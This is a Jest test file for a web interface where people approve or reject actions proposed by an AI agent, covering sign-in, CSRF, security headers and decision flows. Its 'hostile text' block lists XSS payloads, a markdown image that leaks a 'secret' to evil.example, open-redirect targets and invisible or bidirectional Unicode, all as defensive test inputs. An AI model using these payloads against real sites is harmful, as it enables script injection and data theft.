import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { streams } from '@countersign/contracts';
import type { Caller } from '../src/domain/people.js';
import { browser, formsIn, startIssuer } from './browser.js';
import { ana, ben, mara } from './people-and-proposals.js';
import { approvalOf, ask, decide, http, startProduct, tool, until, type Product } from './world.js';

const sam: Caller = { sub: 'sam', roles: ['sre'] };
const people = [ana, ben, mara, sam];
let product: Product;
let orchestrator: Server;
let issuer: Awaited<ReturnType<typeof startIssuer>>;
const brokenCase = randomUUID();
/** Whose tokens the issuer gives out. */
let current: Product;
const issuerOf = (one: Product) => (current = one);

beforeAll(async () => {
  issuer = await startIssuer(people, (caller) => current.token(caller));
  orchestrator = createServer((request, response) => {
    const [, , , caseId = '', timeline] = request.url!.split('/');
    if (caseId === brokenCase) return void response.writeHead(404).end('{"title":"No such case"}');
    return void response.end(
      JSON.stringify(
        timeline ? { entries: timelineOf() } : caseOf(caseId, request.headers.authorization),
      ),
    );
  });
  await new Promise<void>((resolve) => orchestrator.listen(0, '127.0.0.1', resolve));
  const behind = `http://127.0.0.1:${(orchestrator.address() as AddressInfo).port}`;
  product = await startProduct({
    issuer: {
      url: issuer.url,
      personas: people.map(({ sub }) => ({ as: sub, title: `${sub}, tester` })),
    },
    services: { intake: behind, orchestrator: behind, agent: behind, executor: behind },
  });
  issuerOf(product);
});
afterAll(async () => {
  await product.stop();
  issuer.close();
  orchestrator.closeAllConnections();
  orchestrator.close();
});

const caseOf = (caseId: string, token: string | undefined) => ({
  caseId,
  correlationId: caseId,
  workflow: 'support-ticket',
  version: 1,
  title: token?.startsWith('Bearer ') ? 'Answer a support ticket' : 'no token',
  source: 'https://shop.example',
  sourceId: '4711',
  state: 'awaiting-approval',
  step: 'approve',
  openedAt: '2026-01-05T08:59:00.000Z',
  endedAt: null,
  outcome: null,
  reason: null,
  waiting: { what: 'a decision', since: '2026-01-05T09:00:00.000Z', unblock: ['./countersign x'] },
});
const timelineOf = () => [
  {
    revision: 0,
    what: 'opened <b>under</b> support-ticket@1',
    actor: { type: 'upstream', id: 'https://shop.example' },
    step: 'classify',
    from: null,
    to: 'received',
    recordedAt: '2026-01-05T08:59:00.000Z',
    tookMs: 0,
  },
];

const signedIn = async (as: string) => {
  const page = browser(product);
  expect((await page.signIn(as)).status).toBe(303);
  return page;
};
const typesIn = async (proposalId: string) =>
  (await product.store.read(streams.approval(proposalId))).map(({ type }) => type);

describe('signing in', () => {
  it('offers the personas of the development issuer, and leads back to where one wanted to go', async () => {
    const { proposalId } = await ask(product);
    const page = browser(product);
    const asked = await page.get(`/approvals/${proposalId}`);
    expect(asked.status).toBe(401);
    expect(asked.text).toContain('value="ana"');
    const [form] = formsIn(asked.text);
    const on = await page.submit(asked, '/sign-in', { as: 'ana' });
    expect(form!.hidden['next']).toBe(`/approvals/${proposalId}`);
    expect([on.status, on.headers.get('location')]).toEqual([303, `/approvals/${proposalId}`]);
    expect(on.headers.get('set-cookie')).toMatch(/; HttpOnly; SameSite=Strict/);
    expect((await page.get(`/approvals/${proposalId}`)).status).toBe(200);
  });
  it('leads nobody elsewhere, takes no foreign form, and knows only its personas', async () => {
    const page = browser(product);
    for (const next of [
      'https://evil.example',
      '//evil.example',
      '/approvals/../x',
      '/v1/approvals',
    ]) {
      expect((await page.signIn('ana', next)).headers.get('location')).toBe('/');
    }
    expect((await browser(product).signIn('root')).status).toBe(422);
    const foreign = { origin: 'https://evil.example' };
    expect((await browser(product).send('/sign-in', { as: 'ana' }, foreign)).status).toBe(403);
    expect(
      (await browser(product).send('/sign-in', { as: 'ana' }, { origin: 'null' })).status,
    ).toBe(403);
  });
  it('is over after signing out, and when the token is', async () => {
    const page = await signedIn('ana');
    const inbox = await page.get('/');
    expect(inbox.text).toContain('Inbox');
    await page.submit(inbox, '/sign-out', {});
    expect(page.cookie).toBe('');
    expect((await page.get('/')).text).toContain('Who are you?');
  });
  it('says how to call the API where there is no issuer', async () => {
    const alone = await startProduct();
    try {
      const { text, status } = await browser(alone).get('/');
      expect([status, text.includes('<form')]).toEqual([200, false]);
      expect(text).toContain('Authorization: Bearer');
      expect((await browser(alone).signIn('ana')).status).toBe(404);
    } finally {
      await alone.stop();
    }
  });
});

describe('every page', () => {
  it('runs no script, is framed by nobody, and sends forms only home', async () => {
    const page = await signedIn('ana');
    const { proposalId, caseId } = await ask(product);
    for (const path of [
      '/',
      `/approvals/${proposalId}`,
      `/cases/${caseId}`,
      '/approvals/nothing',
    ]) {
      const { headers, text } = await page.get(path);
      expect(headers.get('content-security-policy')).toBe(
        "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; " +
          "frame-ancestors 'none'; base-uri 'none'",
      );
      expect(headers.get('cache-control')).toBe('no-store');
      expect(text).not.toMatch(/<script|style="|javascript:/i);
      expect(text).toContain('<html lang="en">');
      expect(text.match(/<h1/g)).toHaveLength(1);
    }
  });
  it('brings its one stylesheet and its icon', async () => {
    const page = browser(product);
    const [, name] = /href="\/(style-[^"]+)"/.exec((await page.get('/')).text)!;
    const style = await page.get(`/${name}`);
    expect(style.headers.get('content-type')).toContain('text/css');
    expect(style.headers.get('cache-control')).toContain('immutable');
    expect((await page.get('/icon.svg')).headers.get('content-type')).toBe('image/svg+xml');
  });
});

describe('the inbox', () => {
  it('shows what waits, what is uncertain, where a person must write, and what was decided', async () => {
    const one = await startProduct({
      issuer: {
        url: issuer.url,
        personas: [
          { as: 'ana', title: 'Ana' },
          { as: 'sam', title: 'Sam' },
        ],
      },
    });
    try {
      const before = browser(one);
      issuerOf(one);
      await before.signIn('ana');
      expect((await before.get('/')).text).toContain('Nothing waits for a');
      const open = await ask(one, { flags: ['link-in-text'] });
      const gone = await ask(one);
      const lost = await ask(one);
      for (const { proposalId, digest } of [gone, lost]) await decide(one, proposalId, digest, ana);
      const since = '2026-01-05T09:10:00.000Z';
      const { proposalId, caseId } = lost;
      await one.say('RequestResolution', { proposalId, reason: 'no answer', since }, { caseId });
      const { id } = await one.say('RequestAssistance', assistanceOf(), { caseId });
      const text = await until(async () => {
        const seen = (await before.get('/')).text;
        return seen.includes(`/assistance/${id}`) && seen.includes('Nobody knows')
          ? seen
          : undefined;
      });
      const parts = text.split('<section').slice(1);
      expect(parts[0]).toContain(`/approvals/${proposalId}`);
      expect(parts[1]).toContain(`/approvals/${open.proposalId}`);
      expect(parts[1]).toContain('45.00');
      expect(parts[1]).toContain('The text brings in a link');
      expect(parts[1]).toContain('2026-01-07 09:00 UTC');
      expect(parts[1]).toContain('in 2 d');
      expect(parts[2]).toContain('Abstained: unknown request');
      expect(parts[3]).toContain(`/approvals/${gone.proposalId}`);
      await before.signIn('sam');
      const metadata = (await before.get('/')).text;
      expect(metadata).toContain('crm.resolve-ticket@1');
      expect(metadata).not.toContain('45.00');
    } finally {
      issuerOf(product);
      await one.stop();
    }
  });
});
const assistanceOf = () => {
  const { step, visit, workflow, queue, need, expiresAt } = approvalOf(randomUUID()).data;
  return {
    ...{ step, visit, workflow, queue, need, expiresAt },
    reason: 'abstained: unknown-request',
    tools: [tool.reference],
    context: {
      input: { text: 'Wo ist meine Lampe?' },
      results: { classify: { category: 'question' } },
    },
  };
};

describe('the decision page', () => {
  it('shows what will change, the request, and apart from it what the model says', async () => {
    const page = await signedIn('ana');
    const { proposalId, digest } = await ask(product, { flags: ['target-mismatch'] });
    const { text } = await page.get(`/approvals/${proposalId}`);
    const order = [
      'It changes something that the request does not name',
      'What will change',
      'The original request',
      'Your decision',
      'What the model says',
      'Where it comes from',
    ];
    const places = order.map((words) => text.indexOf(words));
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places[0]).toBeGreaterThan(0);
    expect(text.slice(0, text.indexOf('What the model says'))).not.toContain('The customer asks');
    expect(text).toContain(digest);
    expect(text).not.toContain('autofocus');
  });
  it('approves exactly what was shown, and shows who did and how the case goes on', async () => {
    const page = await signedIn('ana');
    const { proposalId, caseId } = await ask(product);
    const shown = await page.get(`/approvals/${proposalId}`);
    const sent = await page.submit(shown, '/decision', { decision: 'approve' });
    expect([sent.status, sent.headers.get('location')]).toEqual([303, `/approvals/${proposalId}`]);
    expect(await typesIn(proposalId)).toContain('ApprovalReleased');
    const after = (await page.get(`/approvals/${proposalId}`)).text;
    expect(after).toContain('ana (supervisor) approved it');
    expect(after).toContain(`href="/cases/${caseId}"`);
    expect(formsIn(after).map(({ action }) => action)).toEqual(['/sign-out']);
  });
  it('does not take an approval before each warning was ticked', async () => {
    const page = await signedIn('ana');
    const { proposalId } = await ask(product, { flags: ['link-in-text', 'hidden-characters'] });
    const shown = await page.get(`/approvals/${proposalId}`);
    const one = { decision: 'approve', 'seen-0': 'yes' };
    const refused = await page.submit(shown, '/decision', one);
    expect(refused.status).toBe(422);
    expect(refused.text).toContain('Look at each warning and tick it');
    const both = { ...one, 'seen-1': 'yes' };
    expect((await page.submit(shown, '/decision', both)).status).toBe(303);
  });
  it('asks for the reason when it is missing and keeps what was written', async () => {
    const page = await signedIn('ana');
    const { proposalId } = await ask(product);
    const shown = await page.get(`/approvals/${proposalId}`);
    const fields = { decision: 'reject', reasonCode: '', comment: 'Half of it only.' };
    const refused = await page.submit(shown, '/decision', fields);
    expect(refused.status).toBe(422);
    expect(refused.text).toContain('Say why: choose a reason.');
    expect(refused.text).toContain('Half of it only.');
    const again = { ...fields, reasonCode: 'wrong-amount' };
    expect((await page.submit(refused, '/decision', again)).status).toBe(303);
    expect((await page.get(`/approvals/${proposalId}`)).text).toContain('Wrong amount');
  });
  it('H6 names the winner to who comes too late, and keeps what they wrote', async () => {
    const page = await signedIn('ben');
    const { proposalId, digest } = await ask(product);
    const shown = await page.get(`/approvals/${proposalId}`);
    await decide(product, proposalId, digest, ana);
    const fields = { decision: 'reject', reasonCode: 'other', comment: 'I had my doubts.' };
    const late = await page.submit(shown, '/decision', fields);
    expect(late.status).toBe(409);
    expect(late.text).toContain('ana (supervisor) approved it');
    expect(late.text).toContain('I had my doubts.');
    expect(late.text).toContain(`href="/approvals/${proposalId}"`);
  });
  it('says 412 when the digest is not the one that stands, and 403 for the own request', async () => {
    const page = await signedIn('ana');
    const { proposalId } = await ask(product);
    const shown = await page.get(`/approvals/${proposalId}`);
    const fields = { decision: 'approve', digest: '0'.repeat(64) };
    const stale = await page.submit(shown, '/decision', fields);
    expect([stale.status, stale.text.includes('is not what stands now')]).toEqual([412, true]);
    const own = await signedIn('mara');
    const seen = await own.get(`/approvals/${proposalId}`);
    expect(seen.text).toContain('You made the request yourself');
    expect(formsIn(seen.text)).toHaveLength(1);
    const forged = {
      ...formsIn(seen.text)[0]!.hidden,
      decision: 'approve',
      digest: proposalDigestIn(shown.text),
    };
    const refused = await own.send(`/approvals/${proposalId}/decision`, forged);
    expect(refused.status).toBe(403);
    expect(await typesIn(proposalId)).toEqual(['ApprovalRequested']);
  });
  it('takes only its own forms: by session, by origin, by type', async () => {
    const page = await signedIn('ana');
    const other = await signedIn('ben');
    const { proposalId } = await ask(product);
    const shown = await page.get(`/approvals/${proposalId}`);
    const { action, hidden } = formsIn(shown.text).find((one) => one.action.endsWith('/decision'))!;
    const fields = { ...hidden, decision: 'approve' };
    expect((await other.send(action, fields)).status).toBe(403);
    expect((await page.send(action, { ...fields, csrf: '' })).status).toBe(403);
    expect((await page.send(action, fields, { origin: 'https://evil.example' })).status).toBe(403);
    expect((await page.send(action, fields, { origin: '' })).status).toBe(403);
    expect((await browser(product).send(action, fields)).status).toBe(401);
    const json = await fetch(product.url + action, {
      method: 'POST',
      headers: { cookie: page.cookie, origin: product.url, 'content-type': 'application/json' },
      body: JSON.stringify(fields),
    });
    expect(json.status).toBe(415);
    expect(await typesIn(proposalId)).toEqual(['ApprovalRequested']);
  });
  it('a session opens no door of the API', async () => {
    const page = await signedIn('ana');
    expect((await page.get('/v1/approvals')).status).toBe(401);
  });
});

const proposalDigestIn = (text: string) => /name="digest" value="([0-9a-f]{64})"/.exec(text)![1]!;

describe('an uncertain write', () => {
  it('is resolved on its page by somebody other than the approver', async () => {
    const { proposalId, digest, caseId } = await ask(product);
    await decide(product, proposalId, digest, ana);
    const since = '2026-01-05T09:10:00.000Z';
    await product.say('RequestResolution', { proposalId, reason: 'no answer', since }, { caseId });
    await until(async () => (await typesIn(proposalId)).length === 4 || undefined);
    const approver = await signedIn('ana');
    expect((await approver.get(`/approvals/${proposalId}`)).text).toContain(
      'You approved it yourself',
    );
    const page = await signedIn('ben');
    const shown = await page.get(`/approvals/${proposalId}`);
    expect(shown.text).toContain('Nobody knows whether it was done');
    const without = await page.submit(shown, '/resolution', { outcome: 'done', evidence: ' ' });
    expect(without.status).toBe(422);
    const fields = { outcome: 'done', evidence: 'The ledger says so.' };
    expect((await page.submit(shown, '/resolution', fields)).status).toBe(303);
    expect((await page.get(`/approvals/${proposalId}`)).text).toContain('ben (l2) found it done');
  });
});

describe('what was erased', () => {
  it('I22 is gone from pages, lists and API, and cannot be approved', async () => {
    const page = await signedIn('ana');
    const subjects = ['customer:9001'];
    const { proposalId, digest, caseId } = await ask(product, {}, { subjects });
    await product.erase('customer:9001');
    await product.restart();
    const { status, text } = await page.get(`/approvals/${proposalId}`);
    expect(status).toBe(200);
    expect(text).toContain('The content was erased');
    expect(text).not.toContain('Please refund');
    const shown = await http(product, 'GET', `/v1/approvals/${proposalId}`, { as: ana });
    expect(shown.body.content).toBeNull();
    const refused = await decide(product, proposalId, digest, ana);
    expect([refused.status, refused.body.type.split(':').at(-1)]).toEqual([409, 'content-erased']);
    const listed = await until(async () => {
      const { body } = await http(product, 'GET', `/v1/approvals?caseId=${caseId}`, { as: ana });
      return body.items[0];
    });
    expect(listed.content).toMatchObject({ about: null, changes: [] });
  });
});

describe('the assistance page', () => {
  const askFor = async () => {
    const { id } = await product.say('RequestAssistance', assistanceOf());
    await until(async () => (await product.store.read(streams.assist(id))).length > 0 || undefined);
    return id;
  };
  it('shows the request and the schema, and takes a proposal that fits', async () => {
    const page = await signedIn('ana');
    const id = await askFor();
    const shown = await page.get(`/assistance/${id}`);
    expect(shown.text).toContain('Wo ist meine Lampe?');
    expect(shown.text).toContain('schema of crm.resolve-ticket@1');
    const fields = { tool: 'crm.resolve-ticket@1', rationale: 'She wants to know.' };
    const wrong = { ...fields, arguments: '{"order": 1}' };
    const refused = await page.submit(shown, '/proposal', wrong);
    expect(refused.status).toBe(422);
    expect(refused.text).toContain('The arguments do not fit the tool');
    expect(refused.text).toContain('&quot;order&quot;: 1');
    const broken = await page.submit(shown, '/proposal', { ...fields, arguments: '{' });
    expect(broken.status).toBe(400);
    const args = { order: 'A-1001', reply: 'Unterwegs.', amountCents: 0 };
    const good = { ...fields, arguments: JSON.stringify(args) };
    expect((await page.submit(shown, '/proposal', good)).status).toBe(303);
    const after = (await page.get(`/assistance/${id}`)).text;
    expect(after).toContain('ana (supervisor) wrote a proposal');
    expect(after).toMatch(/href="\/approvals\/[0-9a-f-]{36}"/);
  });
  it('takes a decline with its reason', async () => {
    const page = await signedIn('ben');
    const id = await askFor();
    const shown = await page.get(`/assistance/${id}`);
    expect((await page.submit(shown, '/decline', { reasonCode: '' })).status).toBe(422);
    const fields = { reasonCode: 'customer-withdrew', comment: 'She called.' };
    expect((await page.submit(shown, '/decline', fields)).status).toBe(303);
    expect((await page.get(`/assistance/${id}`)).text).toContain('She called.');
  });
});

describe('the case page', () => {
  it('tells the story of the case, and what people were asked about it', async () => {
    const page = await signedIn('ana');
    const { caseId, proposalId } = await ask(product);
    const text = await until(async () => {
      const seen = (await page.get(`/cases/${caseId}`)).text;
      return seen.includes(proposalId) ? seen : undefined;
    });
    expect(text).toContain('Answer a support ticket');
    expect(text).toContain('Opened &lt;b&gt;under&lt;/b&gt; support-ticket@1');
    expect(text).toContain('Waits for a decision');
  });
  it('says what the orchestrator says when there is no such case', async () => {
    const page = await signedIn('ana');
    const { status, text } = await page.get(`/cases/${brokenCase}`);
    expect([status, text.includes('No such case')]).toEqual([404, true]);
  });
});

describe('hostile text', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '</textarea><script>alert(1)</script>',
    '</pre></details><iframe src="https://evil.example">',
    '<a href="javascript:alert(1)">Approve</a>',
    '![x](https://evil.example/?q=secret)',
    '{{constructor.constructor("alert(1)")()}}',
    'pay \u202Eerom ylno\u202C now',
    'in\u200Bvis\u200Dible\uFEFF',
    '\u{E0041}\u{E0042} tag characters',
    '\u2066isolate\u2069 \u061C',
    '\u0000\u0007\u001B[31m red',
    '&lt;b&gt; &amp; &#x3c;script&#x3e;',
  ];
  const unseen =
    /[\u200B-\u200F\u202A-\u202E\u2060-\u2069\u061C\uFEFF\u{E0000}-\u{E007F}\u0000-\u0008\u001B]/u;
  /** Text never holds an angle bracket, so these are all tags that a browser sees. */
  const tagsOf = (source: string) => source.match(/<[^>]*>/g) ?? [];
  it.each(hostile)('LLM05 is text and nothing else, everywhere: %j', async (text) => {
    const page = await signedIn('ana');
    const { proposalId } = await ask(product, {
      flags: [text.slice(0, 40)],
      author: { type: 'agent', id: `agent ${text}` },
      content: {
        arguments: { order: 'A-1001', reply: text, amountCents: 1, [text]: text },
        rationale: text,
        target: { id: text, refundedCents: 5 },
        witness: { resource: `/orders/${text}`, etag: text },
      },
      changed: { input: { subject: text, [text]: { deep: [text] } }, requester: text },
    });
    const fields = { decision: 'reject', comment: text, reasonCode: '' };
    const shown = await page.get(`/approvals/${proposalId}`);
    const refused = await page.submit(shown, '/decision', fields);
    const inbox = await until(async () => {
      const seen = await page.get('/');
      return seen.text.includes(proposalId) ? seen : undefined;
    });
    for (const { text: source } of [shown, refused, inbox]) {
      expect(source).not.toMatch(unseen);
      for (const tag of tagsOf(source)) {
        expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(/^<(script|img|iframe)|\son\w+=/i);
        expect(tag).not.toMatch(/(href|action)="(?!\/|#main)/);
      }
    }
    expect(refused.status).toBe(422);
    await page.submit(shown, '/decision', { ...fields, reasonCode: 'other' });
  });
});

describe('GET never decides', () => {
  it('20 times every page and every address of a form, with and without a session: nothing moves', async () => {
    const page = await signedIn('ana');
    const { proposalId, caseId } = await ask(product);
    const { id } = await product.say('RequestAssistance', assistanceOf());
    await until(async () => (await product.store.read(streams.assist(id))).length > 0 || undefined);
    const everything = async () =>
      JSON.stringify([
        await product.store.read(streams.approval(proposalId)),
        await product.store.read(streams.assist(id)),
        await product.store.read(streams.stages),
      ]);
    const before = await everything();
    const query = `csrf=x&decision=approve&digest=${'0'.repeat(64)}`;
    const paths = [
      '/',
      `/approvals/${proposalId}`,
      `/approvals/${proposalId}/decision?${query}`,
      `/approvals/${proposalId}/resolution?outcome=done`,
      `/assistance/${id}`,
      `/assistance/${id}/proposal`,
      `/assistance/${id}/decline?reasonCode=other`,
      `/cases/${caseId}`,
      '/sign-out',
    ];
    for (let n = 0; n < 20; n += 1) {
      for (const path of paths) {
        await page.get(path);
        await page.head(path);
        await browser(product).get(path);
      }
    }
    expect(await everything()).toBe(before);
    expect((await page.get('/')).text).toContain('Inbox');
  });
});
